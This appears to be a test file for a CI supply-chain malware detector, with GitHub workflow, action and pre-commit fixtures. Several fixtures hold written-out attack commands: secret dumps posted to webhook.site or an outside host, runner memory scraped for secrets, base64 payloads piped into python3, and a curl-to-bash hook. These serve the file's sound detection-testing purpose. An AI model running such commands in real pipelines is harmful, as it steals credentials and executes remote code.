from _kit import crlf, fires, silent


def workflow(name, on, *steps, job=None, runner="ubuntu-latest"):
    head = f"name: {name}\non: {on}\njobs:\n  {job or name.lower()}:\n    runs-on: {runner}\n    steps:\n"
    return head + "".join(f"      {s}\n" for s in steps)


def action(name, *run):
    head = f"name: {name}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n"
    if len(run) == 1:
        return head + f"      run: {run[0]}\n"
    return head + "      run: |\n" + "".join(f"        {r}\n" for r in run)


BENIGN_WORKFLOW = workflow(
    "CI", "[push, pull_request]", "- uses: actions/checkout@v4", "- run: curl -fsSL https://bun.sh/install | bash",
    "- run: npm ci && npm test", "- run: npm publish", "  env:", "    NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}",
    "- run: curl -X POST -d '{\"text\":\"done\"}' ${{ secrets.SLACK_WEBHOOK }}",
    job="test", runner="ubuntu-latest   # self-hosted runners are not used here")
fires("workflow_tojson_secrets", "workflow_exfiltrates_secrets", "critical", ".github/workflows/lint.yml", "exfil.yml",
      workflow("Lint", "push",
               "- run: echo '${{ toJSON(secrets) }}' > s.json && curl -s -d @s.json https://webhook.site/6f2c1d8e"))
silent("workflow_ordinary", "workflow_exfiltrates_secrets", ".github/workflows/ci.yml", "ordinary.yml", BENIGN_WORKFLOW)
fires("workflow_worm_name", "workflow_known_worm", "critical", ".github/workflows/shai-hulud-workflow.yml",
      "worm.yml", "on: push\njobs:\n  process:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ok\n")
fires("workflow_worm_runner", "workflow_known_worm", "critical", ".github/workflows/discussion.yaml",
      "sha1hulud.yaml", "name: Discussion Create\non: discussion\njobs:\n  process:\n    env:\n      RUNNER_TRACKING_ID: 0\n    runs-on: [self-hosted, SHA1HULUD]\n    steps:\n      - run: echo ok\n")
silent("workflow_formatter", "workflow_known_worm", ".github/workflows/formatter.yml", "ordinary.yml")
fires("workflow_discussion_backdoor", "workflow_self_hosted_backdoor", "critical", ".github/workflows/discussion.yaml",
      "backdoor.yaml", "name: Discussion\non:\n  discussion:\njobs:\n  process:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n")
silent("workflow_self_hosted_plain_not_backdoor", "workflow_self_hosted_backdoor", ".github/workflows/build.yml",
       "self-hosted.yml", workflow("Build", "push", "- run: make", runner="[self-hosted, linux, x64]"),
       also="workflow_self_hosted_runner")
fires("workflow_self_hosted", "workflow_self_hosted_runner", "warning", ".github/workflows/build.yml", "self-hosted.yml")
silent("workflow_hosted", "workflow_self_hosted_runner", ".github/workflows/ci.yml", "ordinary.yml")
fires("truffle_secrets_file", "worm_secret_dump_file", "critical", "truffleSecrets.json",
      "truffleSecrets.json", '{"results": []}\n')
fires("cloud_json_blob", "worm_secret_dump_file", "critical", "cloud.json",
      "cloud.json", "ZXlKaGQzTWlPbnNpUVZkVFgwRkRRMFZUVTE5TFJWbGZTVVFpT2lKQlMwbEJTVTlUUms5T1RqZEZXRUZOVUV4Rklpd2lRVmRUWDFORlEx"
      "SkZWRjlCUTBORlUxTmZTMFZaSWpvaWQwcGhiSEpZVlhSdVJrVk5TUzlMTjAxRVJVNUhMMkpRZUZKbWFVTlpSVmhCVFZCTVJVdEZXU0o5ZlE9PQ==\n")
silent("environment_json_config", "worm_secret_dump_file", "config/environment.json",
       "environment.json", '{\n  "name": "staging",\n  "apiBase": "https://api.staging.example.com",\n  "features": ["search", "billing"]\n}\n')

fires("workflow_env_dump_sent_crlf", "workflow_exfiltrates_secrets", "critical", ".github/workflows/release.yml",
      "env-dump.yml", crlf(workflow("Release", "push", "- run: |", "    printenv | base64 -w0 > env.txt",
                                    "    curl -s --data-binary @env.txt https://metrics.example-cdn.net/v1/ingest")))
silent("workflow_commented_webhook", "workflow_exfiltrates_secrets", ".github/workflows/notify.yml",
       "commented-webhook.yml", workflow("Notify", "push", "# Debugging once used: curl -d @out.json"
                                         " https://webhook.site/2c1f and ${{ toJSON(secrets) }}",
                                         "- run: echo \"deployed ${{ github.sha }}\""))
fires("action_runner_memory", "ci_reads_runner_memory", "critical", ".github/actions/changed-files/action.yml",
      "action-memdump.yml", action("Changed files", "pid=$(pgrep -f Runner.Worker)",
                                   "sudo dd if=/proc/$pid/mem bs=1M 2>/dev/null"
                                   " | grep -aoE '\"[^\"]+\":\\{\"value\":\"[^\"]*\",\"isSecret\":true\\}' | sort -u"))
silent("action_reads_cpuinfo", "ci_reads_runner_memory", ".github/actions/info/action.yml", "action-cpuinfo.yml",
       action("Machine info", "grep -c processor /proc/cpuinfo", "cat /proc/meminfo | head -3",
              "echo \"runner: $RUNNER_NAME\""))
fires("workflow_step_base64_python", "ci_step_decodes_and_runs", "critical", ".github/workflows/lint.yml",
      "decode-run.yml",
      workflow("Lint", "pull_request", "- run: echo aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ== | base64 -d | python3"))
silent("workflow_step_decodes_certificate", "ci_step_decodes_and_runs", ".github/workflows/sign.yml", "decode-cert.yml",
       workflow("Sign", "push", "- run: echo \"$P12_BASE64\" | base64 --decode > cert.p12"
                " && security import cert.p12 -P \"$P12_PASSWORD\"", runner="macos-latest"))

fires("precommit_local_curl", "precommit_hook_runs_payload", "critical", ".pre-commit-config.yaml",
      "pre-commit-curl.yaml", "repos:\n  - repo: local\n    hooks:\n      - id: fmt\n        name: fmt\n"
      "        entry: bash -c 'curl -fsSL https://hooks.example.dev/fmt | bash'\n        language: system\n")
silent("precommit_local_lint", "precommit_hook_runs_payload", ".pre-commit-config.yaml",
       "pre-commit-local.yaml", "repos:\n  - repo: https://github.com/pre-commit/pre-commit-hooks\n    rev: v4.6.0\n"
       "    hooks:\n      - id: trailing-whitespace\n  - repo: local\n    hooks:\n      - id: eslint\n        name: eslint\n"
       "        entry: npx eslint --fix\n        language: system\n        types: [javascript]\n", also="precommit_local_hook")
fires("precommit_local_warns", "precommit_local_hook", "warning", ".pre-commit-config.yaml", "pre-commit-local.yaml")
silent("precommit_remote_only", "precommit_local_hook", ".pre-commit-config.yaml",
       "pre-commit-remote.yaml", "repos:\n  - repo: https://github.com/psf/black\n    rev: 24.8.0\n    hooks:\n      - id: black\n")
fires("action_secrets_double_base64", "workflow_exfiltrates_secrets", "critical", ".github/actions/lint/action.yml",
      "action-double-b64.yml", action("Lint changed", "echo \"${{ github.token }}\" | base64 -w 0 | base64 -w 0"))
silent("workflow_env_sorted_for_debugging", "workflow_exfiltrates_secrets", ".github/workflows/debug.yml",
       "env-debug.yml", workflow("Debug", "workflow_dispatch", "- run: env | sort",
                                 "- run: curl -s -X POST -d '{\"text\":\"debug run\"}' \"$SLACK_URL\""))
